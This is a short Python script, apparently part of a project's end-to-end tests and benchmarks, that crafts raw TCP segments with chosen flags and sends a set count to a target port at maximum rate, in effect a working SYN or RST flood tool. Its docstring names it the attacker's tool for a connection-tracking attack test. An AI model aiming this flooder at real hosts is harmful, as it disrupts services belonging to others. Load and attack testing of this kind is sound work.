#!/usr/bin/python3
"""synflood.py DST PORT COUNT FLAGS [SPORT0]: COUNT raw TCP segments with
FLAGS (S, R, A, RA...) from this host's address to DST:PORT, source ports
SPORT0.. (default 20000), as fast as one raw socket sends; prints
"sent N in S s (R pps)".  The attacker's tool of tests/e2e/attack_conntrack.sh
and bench/services/flood.sh."""
import socket, struct, sys, time

def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xffff)
    s += s >> 16
    return ~s & 0xffff

def main():
    dst, port, count, flags = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
    sport0 = int(sys.argv[5]) if len(sys.argv) > 5 else 20000
    bits = {"F": 1, "S": 2, "R": 4, "P": 8, "A": 16}
    fl = sum(bits[c] for c in flags)
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    probe.connect((dst, port))
    src = probe.getsockname()[0]
    probe.close()
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    sa, da = socket.inet_aton(src), socket.inet_aton(dst)
    t0 = time.monotonic()
    i = 0
    try:
        for i in range(count):
            sp = sport0 + i % 40000
            hdr = struct.pack("!HHIIBBHHH", sp, port, 1000 + i, 0, 5 << 4, fl, 64240, 0, 0)
            c = csum(sa + da + struct.pack("!BBH", 0, 6, len(hdr)) + hdr)
            s.sendto(hdr[:16] + struct.pack("!H", c) + hdr[18:], (dst, 0))
        i = count
    except KeyboardInterrupt:
        pass
    count = i
    dt = time.monotonic() - t0
    print("sent %d in %.2f s (%d pps)" % (count, dt, count / dt if dt else 0))

main()
